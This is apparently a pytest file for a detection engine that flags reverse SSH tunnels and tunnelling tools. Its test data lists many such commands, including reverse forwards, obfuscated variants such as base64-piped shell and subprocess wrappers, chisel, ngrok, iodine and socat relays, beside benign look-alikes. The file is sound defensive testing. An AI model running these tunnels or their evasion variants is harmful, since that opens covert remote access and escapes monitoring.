"""Reverse tunnels, forwards and proxies, and what merely looks like them."""

import pytest

from apps.detection.engine import examine
from apps.detection.facts import SocketFact
from tests.detection.cases import command, families, process, rules_on

REVERSE = (
    "ssh -R 8080:localhost:80 public.example.com",
    "ssh -fNTR 8000:localhost:8000 x@203.0.113.4 -p 2200 -i /work/key",
    "ssh x@203.0.113.4 -R8080:localhost:80",
    "ssh -NTf -oStrictHostKeyChecking=no -oRemoteForward=2222:localhost:22 tun@203.0.113.4",
    "ssh -o 'RemoteForward 9000 localhost:9000' h.example",
    "ssh -p 443 -R0:localhost:8000 a.relay.example",
    "AUTOSSH_GATETIME=0 autossh -M 0 -o 'ServerAliveInterval 30' -NR 8888:localhost:8888 user@h.example",
    "sshpass -p x ssh -o StrictHostKeyChecking=no -R 3333:localhost:22 root@203.0.113.4",
    "while true; do ssh -N -R 2222:localhost:22 u@h.example; sleep 5; done",
    "sudo -u bob nohup setsid timeout 600 ssh -NR 1:2:3 h.example &",
    "env -i HOME=/x ssh -R 1:localhost:2 h.example",
    "docker exec -d box ssh -NR 2222:localhost:22 h.example",
    "tmux new-session -d 'ssh -NR 2222:localhost:22 h.example'",
    "find . -name go -exec ssh -NR 2222:localhost:22 h.example ';'",
    "X=ssh; $X -N -R 2222:localhost:22 h.example",
    "python3 -c \"import subprocess; subprocess.Popen(['ssh', '-NR', '2222:localhost:22', 'h.example'])\"",
    "python3 -c \"import os; os.system('ssh -fNR 2222:localhost:22 h.example')\"",
    "bash <<'END'\nssh -NR 2222:localhost:22 h.example\nEND",
    "echo c3NoIC1OUiAyMjIyOmxvY2FsaG9zdDoyMiBoLmV4YW1wbGU= | base64 -d | sh",
    "printf '%s\\n' '#!/bin/sh' 'ssh -NR 2222:localhost:22 h.example' > /work/t.sh; sh /work/t.sh",
)
TOOLS = (
    "./chisel client 203.0.113.4:8000 R:1080:socks",
    "chisel server -p 8000 --reverse",
    "/work/c client 203.0.113.4:8000 R:4444:localhost:22",
    "./frpc -c ./frpc.toml",
    "cloudflared tunnel --url http://localhost:7860",
    "ngrok tcp 22",
    "gost -L=:8080",
    "bore local 5000 --to bore.example",
    "npx localtunnel --port 8000",
    "socat TCP-LISTEN:2222,fork TCP:10.0.0.2:22",
    "ncat -l 8080 --sh-exec 'ncat 10.0.0.5 80'",
    "iodine -f -P secret 203.0.113.4 t1.example.com",
    "tailscale up --authkey tskey-auth-x",
    "docker run -d jpillora/chisel server --reverse",
    "proxychains4 -q ssh root@10.0.0.5",
    "ssh -D 8080 -CqN user@h.example",
)
BENIGN = (
    "ssh-keygen -R remote_host",
    "ssh -R",
    "rsync -avR ./ckpt/ nas:/mnt/ckpt/",
    "ls -R /work",
    "scp -r -P 2222 checkpoints/ nas01:/mnt/ckpt/",
    "ssh -L 6006:localhost:6006 trainer@gpu-login-01",
    "ssh -f user@gateway -p 24222 -L 3307:10.2.3.4:3306 -N",
    "ssh -J bastion.example gpu-node-12 hostname",
    "ssh -M -f -N -o ControlPath=/work/s h.example",
    "ssh -O exit other",
    "ssh -O cancel -R 2222:localhost:22 other",
    "ssh worker-3 'ls -R /work'",
    "git -c core.sshCommand='ssh -o ProxyCommand=none' fetch origin",
    "grep -rn 'ssh -R 8080:localhost:80' docs/",
    "echo 'ssh -R 8080:localhost:80 h' >> notes.md",
    "git commit -m 'block ssh -R and chisel client R:socks'",
    "gh issue create --title 'ssh -R from sandbox not blocked'",
    "cat > notes.md <<'END'\nrun ssh -R 8080:localhost:80 h to open it\nEND",
    "python -m pytest -k 'chisel or ngrok'",
    "man ssh",
    "ngrok version",
    "cloudflared --version",
    "kubectl port-forward svc/ray-head 8265:8265",
    "curl -x http://proxy.example:3128 -LO https://example.org/x.whl",
    "socat -V",
    "rock model-service start --type proxy --port 8080",
)


@pytest.mark.parametrize("text", REVERSE)
def test_a_reverse_tunnel_is_seen_through_whatever_starts_it(text: str) -> None:
    assert "ssh-remote-forward" in rules_on(command(text))


@pytest.mark.parametrize("text", TOOLS)
def test_a_tunnel_tool_is_seen(text: str) -> None:
    assert "tunnels" in families(text)


@pytest.mark.parametrize("text", BENIGN)
def test_what_merely_looks_like_a_tunnel_is_left_alone(text: str) -> None:
    assert "tunnels" not in families(text)


def test_the_detail_says_where_it_listens_where_it_leads_and_through_whom() -> None:
    finding = examine(process("ssh -fNR 0.0.0.0:2222:localhost:22 svc@203.0.113.47 -p 443"))[0]
    assert finding.rule == "ssh-remote-forward"
    assert finding.detail == {
        "listen": "0.0.0.0:2222",
        "target": "localhost:22",
        "server": "svc@203.0.113.47",
        "port": 443,
        "forwards": 1,
    }


def test_ssh_that_runs_nothing_and_listens_nowhere_is_suspect_and_one_that_listens_is_not() -> None:
    assert rules_on(process("ssh -N relay")) == {"ssh-without-command"}
    assert rules_on(process("ssh -N -L 5432:db:5432 gw")) == set()
    assert rules_on(process("ssh relay uptime")) == set()


def socket(**given: object) -> SocketFact:
    usual: dict[str, object] = {
        "argv": ("ssh", "-N", "relay"),
        "exe": "/usr/bin/ssh",
        "state": "ESTABLISHED",
        "local": "10.0.0.7:40022",
        "remote": "203.0.113.47:443",
        "zone": "run",
    }
    return SocketFact(**(usual | given))  # type: ignore[arg-type]


def test_the_first_connection_of_an_ssh_client_is_ordinary() -> None:
    assert rules_on(socket()) == set()


def test_a_second_outgoing_connection_of_an_ssh_client_is_a_reverse_tunnel_in_use() -> None:
    inner = socket(local="127.0.0.1:51000", remote="127.0.0.1:22", other_remotes=("203.0.113.47:443",))
    assert rules_on(inner) == {"ssh-second-connection"}
    assert examine(inner)[0].detail["target"] == "127.0.0.1:22"
    assert examine(inner)[0].detail["server"] == "203.0.113.47:443"


def test_a_connection_accepted_by_a_local_forward_is_not() -> None:
    accepted = socket(local="127.0.0.1:5432", remote="127.0.0.1:51000", other_remotes=("203.0.113.47:443",))
    assert rules_on(accepted) == set()


def test_a_name_look_up_beside_the_connection_is_not() -> None:
    assert rules_on(socket(other_remotes=("10.0.0.2:53",))) == set()


def test_a_listening_ssh_client_is_news_in_a_run_and_everyday_on_a_host() -> None:
    listener = {
        "argv": ("ssh", "-NL", "5432:db:5432", "gw"),
        "state": "LISTEN",
        "local": "127.0.0.1:5432",
        "remote": None,
    }
    assert rules_on(socket(**listener)) == {"ssh-forward-in-run"}
    assert rules_on(socket(**listener, zone="host")) == set()
    assert rules_on(socket(**(listener | {"local": "0.0.0.0:5432"}), zone="host")) == {"ssh-forward-exposed"}
